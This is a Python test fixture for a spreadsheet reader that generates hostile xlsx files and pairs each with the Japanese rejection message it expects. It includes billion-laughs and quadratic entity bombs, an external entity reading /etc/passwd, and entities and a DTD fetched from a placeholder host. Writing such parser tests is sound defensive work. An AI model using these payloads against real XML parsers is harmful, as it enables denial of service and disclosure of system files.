"""XML made to blow up, to fetch something, or to be no XML at all, in whichever part somebody may put it."""

import random
from collections.abc import Callable

from shirube.workbooks.tests.hostile import MAIN, ONE, packed, parts, relations, sheet

_ROW = '<row r="1"><c r="A1"><v>1</v></c></row>'
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_DOCTYPE = "文書型宣言（DOCTYPE）"
_BROKEN = "中身（XML）が壊れています"


def in_sheet(before: str, cells: str = _ROW) -> bytes:
    return packed(parts(sheet(cells, before)))


def in_part(name: str, text: str | bytes, kind: str = "") -> bytes:
    """A further part; `kind`: the workbook is related to it like this."""
    files: dict[str, str | bytes] = {**parts(ONE), name: text}
    if kind:
        target = name.removeprefix("xl/")
        files["xl/_rels/workbook.xml.rels"] = relations(("worksheet", "worksheets/sheet1.xml"), (kind, target))
    return packed(files)


def raw(data: bytes) -> bytes:
    return packed({**parts(ONE), "xl/worksheets/sheet1.xml": data})


def huge_attribute() -> bytes:
    noise = random.Random(3).randbytes(4_000_000).hex()
    return in_sheet("", f'<row r="1" x="{noise}">{_ROW[13:]}')


def huge_comment() -> bytes:
    noise = random.Random(4).randbytes(4_000_000).hex()
    return in_sheet(f"<!--{noise}-->")


def many_elements() -> bytes:
    blanks = "".join(f'<x y="{n}"/>' for n in range(3_200_000))
    return in_part("xl/theme/theme1.xml", f"<a>{blanks}</a>")


def deep(depth: int) -> bytes:
    text = "<si>" + "<r>" * depth + "<t>x</t>" + "</r>" * depth + "</si>"
    return in_part("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}">{text}</sst>', "sharedStrings")


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "billion laughs": (
        lambda: in_sheet(f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>', _ROW.replace("1</v>", "&l9;</v>")),
        _DOCTYPE,
    ),
    "quadratic blow-up": (
        lambda: in_sheet(
            f'<!DOCTYPE x [<!ENTITY a "{"a" * 90_000}">]>', _ROW.replace("1</v>", "&a;" * 90_000 + "</v>")
        ),
        _DOCTYPE,
    ),
    "external entity": (lambda: in_sheet('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), _DOCTYPE),
    "external entity over http": (
        lambda: in_sheet('<!DOCTYPE x [<!ENTITY a SYSTEM "http://203.0.113.1/x">]>'),
        _DOCTYPE,
    ),
    "parameter entity": (
        lambda: in_sheet('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://203.0.113.1/x">%a;]>'),
        _DOCTYPE,
    ),
    "external DTD": (lambda: in_sheet('<!DOCTYPE x SYSTEM "http://203.0.113.1/x.dtd">'), _DOCTYPE),
    "DOCTYPE in the shared strings": (
        lambda: in_part("xl/sharedStrings.xml", f'<!DOCTYPE x><sst xmlns="{MAIN}"/>', "sharedStrings"),
        _DOCTYPE,
    ),
    "DOCTYPE in the relations": (
        lambda: in_part("xl/worksheets/_rels/sheet1.xml.rels", "<!DOCTYPE x><x/>"),
        _DOCTYPE,
    ),
    "DOCTYPE in the styles": (lambda: in_part("xl/styles.xml", "<!DOCTYPE x><x/>", "styles"), _DOCTYPE),
    "DOCTYPE in a drawing": (lambda: in_part("xl/drawings/drawing1.xml", "<!DOCTYPE x><x/>"), _DOCTYPE),
    "DOCTYPE in UTF-16": (
        lambda: raw("<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x><x/>".encode("utf-16")),
        _DOCTYPE,
    ),
    "undefined entity": (lambda: in_sheet("", _ROW.replace("1</v>", "&nbsp;</v>")), _BROKEN),
    "bad UTF-8": (lambda: raw(ONE.encode().replace(b"<v>1", b"<v>\xff\xfe\x81")), _BROKEN),
    "another encoding": (lambda: raw(b"<?xml version='1.0' encoding='x-none'?><x/>"), _BROKEN),
    "zero bytes": (lambda: raw(ONE.encode() + bytes(20)), _BROKEN),
    "no XML": (lambda: raw("ただの文章です".encode()), _BROKEN),
    "empty sheet part": (lambda: raw(b""), _BROKEN),
    "elements crossed": (lambda: in_sheet("", '<row r="1"><c r="A1"><v>1</c></v></row>'), _BROKEN),
    "the same attribute twice": (lambda: in_sheet("", '<row r="1"><c r="A1" r="B1"><v>1</v></c></row>'), _BROKEN),
    "two roots": (lambda: raw(ONE.encode() + b"<x/>"), _BROKEN),
    "control character": (lambda: in_sheet("", _ROW.replace("1</v>", "&#1;</v>")), _BROKEN),
    "attribute of 8 MB": (huge_attribute, "長すぎる部分"),
    "comment of 8 MB": (huge_comment, "長すぎる部分"),
    "three million elements": (many_elements, "中身（XML）が多すぎます"),
    "elements nested 100,000 deep": (lambda: deep(100_000), "入れ子が深すぎます"),
    "a trillion texts, as it says": (
        lambda: in_part("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}" uniqueCount="999999999999"/>', "sharedStrings"),
        "文字列の種類が多すぎます",
    ),
    "workbook part broken": (lambda: packed({**parts(ONE), "xl/workbook.xml": "<workbook>"}), _BROKEN),
    "types broken": (lambda: packed({**parts(ONE), "[Content_Types].xml": "<Types"}), _BROKEN),
    "half of the sheet": (lambda: raw(ONE.encode()[: len(ONE) // 2]), _BROKEN),
}
